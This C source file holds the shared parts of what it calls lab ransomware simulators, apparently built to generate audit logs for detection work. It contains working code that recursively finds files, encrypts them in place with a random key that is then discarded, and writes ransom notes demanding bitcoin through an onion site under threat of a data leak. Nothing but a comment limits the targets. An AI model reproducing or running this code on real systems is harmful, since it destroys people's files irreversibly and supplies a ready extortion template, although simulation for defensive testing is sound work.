/* Shared parts of the lab "unknown native binary" encryptors: directory walk, keystream, notes.
 * These are test tools for recording audit logs in a disposable lab tree; the key is random and
 * discarded, exactly like the real thing, so run them only on the lab tree. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char NOTE_TEXT[] =
    "!!! YOUR FILES ARE ENCRYPTED !!!\n\n"
    "All your documents, databases, backups and virtual machines have been encrypted.\n"
    "Do not rename or modify the encrypted files, you will damage them.\n\n"
    "To decrypt your files you need our private key and decryption tool.\n"
    "1. Download Tor Browser: https://www.torproject.org/\n"
    "2. Open http://rtlabx7q2k4mzd3u5vw6yhj2pnecdfqsatg3hlzbkmjwiu6kxroqm4yd.onion/chat\n"
    "3. Enter your personal ID: RT-4F1C-9A27-EE03\n"
    "4. Pay 0.75 bitcoin (BTC) to the address shown in the chat.\n\n"
    "After 72 hours the price doubles and your data will be published on our leak site.\n";

typedef struct { char **paths; size_t n, cap; } file_list;

static int has_suffix(const char *s, const char *suf) {
    size_t a = strlen(s), b = strlen(suf);
    return b <= a && strcmp(s + a - b, suf) == 0;
}

/* extensions: comma separated list like ".docx,.pdf"; NULL or "" = every regular file */
static int wanted(const char *name, const char *extensions, const char *skip_suffix, const char *note) {
    if (note && strcmp(name, note) == 0) return 0;
    if (skip_suffix && *skip_suffix && has_suffix(name, skip_suffix)) return 0;
    if (has_suffix(name, ".README") || (has_suffix(name, ".html") && strstr(name, "DECRYPT"))) return 0;
    if (!extensions || !*extensions) return 1;
    char buf[512];
    snprintf(buf, sizeof buf, "%s", extensions);
    for (char *tok = strtok(buf, ","); tok; tok = strtok(NULL, ","))
        if (has_suffix(name, tok)) return 1;
    return 0;
}

static void walk(const char *dir, const char *extensions, const char *skip_suffix, const char *note, file_list *out) {
    DIR *d = opendir(dir);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) walk(path, extensions, skip_suffix, note, out);
        else if (S_ISREG(st.st_mode) && wanted(e->d_name, extensions, skip_suffix, note)) {
            if (out->n == out->cap) {
                out->cap = out->cap ? out->cap * 2 : 256;
                out->paths = realloc(out->paths, out->cap * sizeof(char *));
            }
            out->paths[out->n++] = strdup(path);
        }
    }
    closedir(d);
}

static int cmp_str(const void *a, const void *b) { return strcmp(*(char *const *)a, *(char *const *)b); }

/* xorshift-based keystream: stands in for ChaCha; what matters for the recording is the I/O pattern */
static uint64_t ks_state;
static void ks_seed(void) {
    int fd = open("/dev/urandom", O_RDONLY);
    if (fd < 0 || read(fd, &ks_state, sizeof ks_state) != sizeof ks_state) ks_state = (uint64_t)time(NULL) | 1;
    if (fd >= 0) close(fd);
}
static void ks_xor(unsigned char *buf, size_t n) {
    for (size_t i = 0; i < n; i++) {
        ks_state ^= ks_state << 13; ks_state ^= ks_state >> 7; ks_state ^= ks_state << 17;
        buf[i] ^= (unsigned char)ks_state;
    }
}

/* encrypt [off, off+len) of an open file in place */
static int xor_range(int fd, off_t off, size_t len) {
    static unsigned char buf[65536];
    while (len > 0) {
        size_t want = len < sizeof buf ? len : sizeof buf;
        ssize_t r = pread(fd, buf, want, off);
        if (r <= 0) return r == 0 ? 0 : -1;
        ks_xor(buf, (size_t)r);
        if (pwrite(fd, buf, (size_t)r, off) != r) return -1;
        off += r; len -= (size_t)r;
    }
    return 0;
}

static void write_note(const char *path, int html) {
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);   /* once per directory, even with workers */
    if (fd < 0) return;
    if (html) dprintf(fd, "<html><head><title>HOW TO DECRYPT</title></head><body><pre>\n%s</pre></body></html>\n", NOTE_TEXT);
    else dprintf(fd, "%s", NOTE_TEXT);
    close(fd);
}

static void note_for(const char *file, const char *note_name, const char *per_file_suffix) {
    char p[4200];
    if (per_file_suffix && *per_file_suffix) {
        snprintf(p, sizeof p, "%s%s", file, per_file_suffix);
        write_note(p, 0);
    }
    if (note_name && *note_name) {
        const char *slash = strrchr(file, '/');
        int dirlen = slash ? (int)(slash - file) : 0;
        snprintf(p, sizeof p, "%.*s/%s", dirlen, file, note_name);
        write_note(p, has_suffix(note_name, ".html"));
    }
}

static void sleep_ms(long ms) {
    if (ms <= 0) return;
    struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
    nanosleep(&ts, NULL);
}
